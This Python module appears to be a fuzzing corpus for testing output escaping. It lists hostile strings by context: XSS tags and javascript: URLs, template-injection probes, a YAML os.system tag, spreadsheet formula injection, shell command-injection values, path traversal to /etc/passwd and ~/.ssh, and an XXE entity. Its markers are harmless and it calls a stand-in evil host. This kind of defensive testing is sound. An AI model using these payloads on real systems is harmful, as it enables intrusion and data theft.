"""Hostile strings by kind: what each is made for stands in its kind's name.

A payload that ran would set `window.pwned`, open a dialog, or ask `evil.lab-nine.org` for something.
"""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
AWAY = "https://evil.lab-nine.org/"

CLOSERS = (
    *("", '">', "'>", "-->", "</title>", "</script>", "</style>", "</textarea>", "</table>", "</svg>"),
    *("</caption></table>", "]]>", "</noscript>", "</template>", "</code></pre>"),
)
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f'<link rel=stylesheet href="{AWAY}a.css">',
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f'<form action="{AWAY}"><button>go',
    f"<details open ontoggle={RUN}>",
    f'<base href="{AWAY}">',
)
MORE_ELEMENTS = (
    f"<ScRiPt >{RUN}</ScRiPt>",
    f"<script src={AWAY}a.js></script>",
    f"<img src={AWAY}a.png>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<style>@import '{AWAY}a.css';*{{display:none}}</style>",
    "<style>body{display:none}</style>",
    f"<a href='javascript:{RUN}' id=x>x</a>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<textarea>",
    "<title>",
    "<table><tr><td>",
    "</td></tr></tbody></table>",
    "</div></div></article></main>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<x-a contenteditable onblur=window.pwned=1 tabindex=0>",
    "<form id=x><input name=getElementById><input name=body>",
    "<a id=document><a id=location name=href>",
)
ATTRIBUTES = tuple(
    f"a{quote} {handler}={RUN} {rest}"
    for quote, (handler, rest) in product(
        ('"', "'", "`", "&quot;"),
        (("onmouseover", "x="), ("onfocus", "autofocus tabindex=0 x="), ("style", "x=")),
    )
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN} 'title')",
    f"[x](<javascript:{RUN}>)",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"![x]({AWAY}a.png)",
    f"![x](x){{onerror={RUN}}}",
    f"[x](x){{: onclick={RUN} }}",
    f"x {{: onclick={RUN} }}",
    f"[x]: javascript:{RUN}",
    f"[x][y] [y]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<{AWAY}>",
    "# heading",
    "heading ===",
    "* item",
    "1. item",
    "> quote",
    "| a | b | --- | c |",
    "a | b || c",
    "```python x```",
    "~~~ x",
    "    code",
    "`code` ``co`de``",
    "*[effsite]: <b>",
    "[^1] [^1]: note",
    "!!! danger x",
    "=== tab",
    "a : b",
    '<div markdown="1">*x*</div>',
    '--8<-- "../../../etc/passwd"',
    "{!../../../etc/passwd!}",
    ":smile: :material-skull:",
    "{++added++} {--gone--} {==x==}",
    "==x== ^^x^^ ~~x~~ H~2~O x^2^",
    "$$x$$ \\(x\\) \\[x\\]",
    "wzxhzdk:0 klzzwxh:0001",
    "[TOC] [[wiki]] [=10%]",
    "\\<b\\> \\*x\\* a\\",
    "&lt;script&gt; &amp;lt; &#60; &#x3c; &NewLine; &colon;",
    "___ *** ---",
    "**bold** _em_ <b>b</b>",
    "http://evil.lab-nine.org www.evil.lab-nine.org a\x40evil.lab-nine.org",
)
TEMPLATES = (
    *(
        "{{ 7*7 }}",
        "{% raw %}",
        "{% endraw %}",
        "{# x",
        "{{ config.__class__.__mro__ }}",
        "{% include 'a' %}",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__}",
        "{policy}",
        "{title}",
        "{}",
        "{",
        "}",
        "%s%n%d %(a)s",
    ),
    *("{{constructor.constructor('window.pwned=1')()}}", "[[${7*7}]]", "@(7*7)", "$name ${name} $$"),
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
)
FRONT_MATTER = (
    *(
        "---",
        "--- x",
        "...",
        "!!python/object/apply:os.system ['id']",
        "!ENV HOME",
        "!relative x",
        "&a *a",
        "*a",
    ),
    *(
        "a: b",
        ": ",
        "a #b",
        "#b",
        "| x",
        "> x",
        "? x",
        "%YAML 1.1",
        "null",
        "true",
        "~",
        "NaN",
        ".inf",
        "1e5",
    ),
    *(
        "2020-01-01",
        "0x10",
        "0o7",
        "1_000",
        "[a, b]",
        "{a: b}",
        '"quoted"',
        "'quoted'",
        '"',
        "'",
        "\\",
        "<<: x",
    ),
    "title: x",
    "template: ../../x.html",
    "hide: true",
)
SCRIPT_DATA = (
    *(
        "</script>",
        "<!--<script>",
        "]]>",
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "\\",
        "\\\\",
        '\\"',
        "\\'",
    ),
    *(
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "valueOf",
        "prototype",
        "length",
        "then",
        "undefined",
    ),
    *(
        f'"}};{RUN};//',
        f"';{RUN};//",
        f"`;{RUN};//",
        f"${{{RUN}}}",
        "[object Object]",
        "Infinity",
        "0",
        "-0"[1:],
    ),
    *("/*", "*/", "//", "<!-- x", "--> x", "\\n", "\\u2028", "%3Cscript%3E", "javascript:window.pwned=1"),
)
CHARTS = (
    *(
        "@name",
        "@{name}",
        "@url{safe}",
        "@system{custom}",
        "$index",
        "$name",
        "$color[hex]:x",
        "@$name",
        "$x @y",
    ),
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    "\\(\\text{x}\\) y",
    "\\[x\\]",
    "$$\\unicode{x}$$",
    "$$\\html{<b>x</b>}$$",
    "{name}{safe}",
    "a\\tb\\nc",
    "<b>bold</b><br>",
    "&nbsp;&lt;",
)
SPREADSHEETS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.lab-nine.org/")',
        "=",
        "@",
    ),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1"),
    *('"=1+1"', "a,=1+1", "a;=1+1", 'a",=1+1', '";=1+1', "0x1", "1,000", "1/2", "%0A=1+1"),
)
TERMINALS = (
    *(
        "\x1b[31mred",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.lab-nine.org\x07x\x1b]8;;\x07",
        "\x9b2J",
        "a\bb",
        "a\rb",
    ),
    *(
        "a\x00b",
        "a\x7fb",
        "a\x85b",
        "a\x0cb",
        "a\nb",
        "a\u2028b",
        "a\u2029b",
        "\x1b[2J\x1b[H",
        "\x1bP+q\x1b\\",
    ),
)
WORKFLOW_LOGS = (
    *(
        "::error::owned",
        "::set-output name=a::b",
        "::add-mask::a",
        "::stop-commands::x",
        "::debug::x",
        "::::",
    ),
    *("##[error]owned", "##[group]x", "a ##[add-path]b", "##vso[task.complete]x", "a%0A::error::b", "a::b"),
    *("a\n::error::owned", "a\r::error::owned", "::group::{title}", "::save-state name=x::y"),
)
CODE_HOSTS = (
    *(
        "@everyone",
        "@effsite/maintainers",
        "#1",
        "GH-1",
        "effsite/effsite#1",
        "0123456789abcdef0123456789abcdef01234567",
    ),
    *(
        "fixes #1",
        "<details><summary>x</summary>",
        "<!-- effsite: review -->",
        "- [ ] task",
        "![x][y]",
        "/close",
        "/label x",
    ),
)
DIRECTIONS = tuple(
    f"a{mark}b"
    for mark in (
        *"\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\ufeff\u00ad\u061c",
        *"\U000e0001\U000e0041\ue000\U0010ffff\ufffe\ufdd0\ud800",
    )
)
BLANKS = (
    "\u3164",
    "a\u115fb",
    "a\u1160b",
    "\uffa0x",
    "\u2800",
    "a\u034fb",
    "x\u17b4",
    "\u180ex",
    "x\u200c",
    "\u200dx",
)
LETTERS = (
    *(
        "שלום",
        "نظام سريع",
        "شبکه‌ها",
        "Réseau 模型",
        "ﷺ",
        "ＡＢＣ",
        "а-lexnet",
        "ı İ ß ﬁ",
        "é é",
        "👩‍👩‍👧 🏴 🇩🇪",
    ),
    *("a" + "\u0301" * 40, "\u0301a", "नेटवर्क", "เครือข่าย", "\ufffd", "1 000\u202f000", "a\u00a0b", "a\u3000b"),
    *(
        "a\u2003b",
        "ｊavascript:x",
        "\u212aelvin",
        "\u2024\u2024/",
        "‹script›",
        "＜script＞",
        "\u02bax\u02ba",
        "𝕏",
    ),
)
SHELLS = (
    *(
        "$(touch hacked)",
        "`touch hacked`",
        "; touch hacked;",
        "&& touch hacked",
        "| touch hacked",
        "> hacked",
        "a'b\"c",
    ),
    *(
        "--help",
        "-rf",
        "../../etc/passwd",
        "..\\..\\a",
        "/etc/passwd",
        "C:\\a",
        "CON",
        ".git/config",
        "%2e%2e%2f",
        "~/.ssh",
    ),
    *(
        "file:///etc/passwd",
        "'; DROP TABLE results; --",
        "a/../b",
        "index",
        "search",
        "assets",
        "404",
        "sitemap.xml",
    ),
)
MARKUP_DATA = (
    *(
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
        "&y;",
        "<?xml version='1.0'?>",
        "]]>x",
        "&#0;",
        "&#x1F;",
    ),
    *(
        '<?xml-stylesheet href="https://evil.lab-nine.org/a.css"?>',
        "<![CDATA[x]]>",
        "<xi:include href='/etc/passwd'/>",
    ),
    *(
        "<foreignObject><body onload=window.pwned=1>",
        "<use href='https://evil.lab-nine.org/a.svg#x'/>",
        "xlink:href",
    ),
)
STYLES = (
    *(
        "</style><b>",
        "expression(window.pwned=1)",
        "url(https://evil.lab-nine.org/a)",
        "@import 'a'",
        "x;background:red",
    ),
    *("position:fixed;inset:0", "/**/", "}*{display:none}", "var(--x)"),
)
SEARCHES = ("title:foo", "+a -b", "foo~10000", "*", "a^10", "*a*", "a b c d e f g h", "<mark>x</mark>", "\\*")
LENGTHS = (
    "a" * 120,
    "<" * 120,
    "&" * 120,
    "模" * 120,
    "a" * 121,
    "a b" * 40,
    "_" * 120,
    "a" * 2000,
    "<b>" * 666,
)
ADDRESSES = tuple(
    template.format(RUN)
    for template in (
        *(
            "javascript:{}",
            "JAVASCRIPT:{}",
            "java\tscript:{}",
            " javascript:{}",
            "\x01javascript:{}",
            "javascript&colon;{}",
        ),
        *(
            "data:text/html,<script>{}</script>",
            "data:image/svg+xml,<svg onload={}>",
            "vbscript:{}",
            "view-source:{}",
        ),
        *(
            "blob:{}",
            "file:///etc/passwd",
            "about:blank",
            "ftp://papers.lab-nine.org/",
            "//evil.lab-nine.org/",
            "/x",
            "x",
            "#x",
            "?x",
        ),
        *(
            "https://",
            "https:///x",
            "https:evil.lab-nine.org",
            "https:\\\\evil.lab-nine.org",
            "https://user:pass\x40papers.lab-nine.org/",
        ),
        *(
            "https://papers.lab-nine.org\x40evil.lab-nine.org/",
            "https://а.example/",
            "https://papers.lab-nine.org/\u202ex",
            "https://a。example/",
        ),
        *(
            'https://papers.lab-nine.org/"onclick={}',
            "https://papers.lab-nine.org/'onclick={}",
            "https://papers.lab-nine.org/<b>",
            "https://papers.lab-nine.org/ x",
        ),
        *(
            "https://papers.lab-nine.org/`x`",
            "https://papers.lab-nine.org/\\x",
            "https://papers.lab-nine.org/\nx",
            "https://[a",
            "https://papers.lab-nine.org:x/",
        ),
        *(
            "https://papers.lab-nine.org/?q={}",
            "https://papers.lab-nine.org/(x)[y]",
            "https://papers.lab-nine.org/#*_x_*",
            "https://papers.lab-nine.org/ü?q=模",
        ),
        *(
            "https://papers.lab-nine.org/%0d%0aSet-Cookie:x",
            "https://papers.lab-nine.org/{{{{7*7}}}}",
            "https://papers.lab-nine.org/&lt;b&gt;",
            "http://papers.lab-nine.org",
        ),
        *(
            "https://papers.lab-nine.org/=1+1",
            "https://xn--e1aybc.lab-nine.org/",
            "https://papers.lab-nine.org/]]>",
            "https://papers.lab-nine.org/|x|",
        ),
    )
)

TEXTS: dict[str, tuple[str, ...]] = {
    "elements": (*map("".join, product(CLOSERS, ELEMENTS)), *MORE_ELEMENTS),
    "attributes": ATTRIBUTES,
    "Markdown": MARKDOWN,
    "templates": TEMPLATES,
    "front matter": FRONT_MATTER,
    "data of scripts": SCRIPT_DATA,
    "charts": CHARTS,
    "spreadsheets": SPREADSHEETS,
    "terminals": TERMINALS,
    "logs of workflows": WORKFLOW_LOGS,
    "hosts of code": CODE_HOSTS,
    "directions": DIRECTIONS,
    "blanks": BLANKS,
    "letters": LETTERS,
    "shells": SHELLS,
    "data of markup": MARKUP_DATA,
    "styles": STYLES,
    "searches": SEARCHES,
    "lengths": LENGTHS,
}
"""Every text by its kind; those of `ADDRESSES` are for fields that hold a link."""


def texts() -> list[str]:
    """All texts, each once."""
    return list(dict.fromkeys(text for kind in TEXTS.values() for text in kind))
